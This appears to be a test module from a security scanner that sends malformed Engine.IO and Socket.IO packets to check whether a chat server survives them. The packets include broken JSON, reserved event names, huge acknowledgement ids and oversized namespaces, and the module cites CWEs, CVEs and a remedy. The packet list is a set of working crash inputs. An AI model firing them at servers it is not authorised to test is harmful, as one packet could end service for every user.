import { outcomeOnClosing } from '../../kit/binary-packets.ts'
import { type CrashStep, crashAttack } from '../../kit/crash-attack.ts'
import { attackerSession, eventSteps } from '../../kit/event-steps.ts'
import { visits } from '../../sends.ts'

/** engine.io-protocol v4: types 0 to 6; socket.io-protocol v5: types 0 to 6 behind an Engine.IO `4`. */
const packets = {
  'an unknown Engine.IO type': '9',
  'an Engine.IO type that is no digit': 'x{}',
  'an empty packet': '',
  'an unknown Socket.IO type': '49',
  'an event cut off in its JSON': '42["message',
  'an event that is an object': '42{"a":1}',
  'an event without a name': '42[]',
  'a huge acknowledgement id': '42999999999999999999999["x"]',
  'an acknowledgement nobody asked for': '43123456[]',
  'a binary event without its attachment': '451-["x",{"_placeholder":true,"num":0}]',
  'a placeholder for no attachment': '42["x",{"_placeholder":true,"num":99}]',
  'a namespace without an end': '42/x',
  'base64 that is none': 'b!!!!',
  'an upgrade that nobody began': '5',
  'a binary event of no attachments': '450-["x"]',
  'an event with the name connect': '42["connect",{}]',
  'an event with the name connect_error': '42["connect_error",{}]',
  'an event with the name disconnect': '42["disconnect"]',
  'an event with the name disconnecting': '42["disconnecting"]',
  'an event with the name newListener': '42["newListener","x"]',
  'an event with the name removeListener': '42["removeListener","x"]',
  'a CONNECT with a text': '40"token"',
  'a CONNECT with an array': '40["token"]',
  'a CONNECT with null': '40null',
  'a CONNECT to a namespace of odd characters': '40/\u0000\ud800 %2f..,{}',
  'a CONNECT to a namespace of 10 KB': `40/${'a'.repeat(10_000)},{}`,
  'a DISCONNECT with a payload': '41{"a":1}',
}

export default crashAttack({
  id: 'crash/pkt-garbage',
  rows: ['crash.pkt.garbage', 'crash.pkt.connect-types', 'crash.event.reserved', 'crash.bin.zero-then-text'],
  title: 'Packets that are none: unknown types, broken JSON, reserved names, odd CONNECTs, over each transport',
  requirement: 'CWE-20: what does not fit the protocol ends its own connection and nothing else',
  impact: 'One packet, even of someone who never logged in, ends the chat for everybody.',
  remedy: 'Keep socket.io up to date, and parse nothing in listeners on socket.conn without catching what it throws.',
  severity: 'medium',
  cwe: ['CWE-20', 'CWE-248'],
  references: ['CVE-2022-41940', 'CVE-2022-21676'],
  needs: ['textPackets'],
  provenBy: 'packet-tap',
  sends: visits(120),
  steps: (context) =>
    context.target.profile.transports.flatMap((transport) =>
      Object.entries(packets).map(
        ([name, packet]): CrashStep => ({
          name: `${name}, over ${transport}`,
          async act() {
            const session = await attackerSession(context, { transport, join: false })
            session.engine.sendPackets([packet])
            return outcomeOnClosing(session)
          },
        }),
      ),
    ),
  // Socket.IO raises what it cannot parse as `error` on the socket: where nobody listens for that, see there.
  plainer: (context) => ({
    'crash/event-error-name': eventSteps(context, [{ name: 'error', event: 'error', args: [], ack: false }])[0]!,
  }),
})
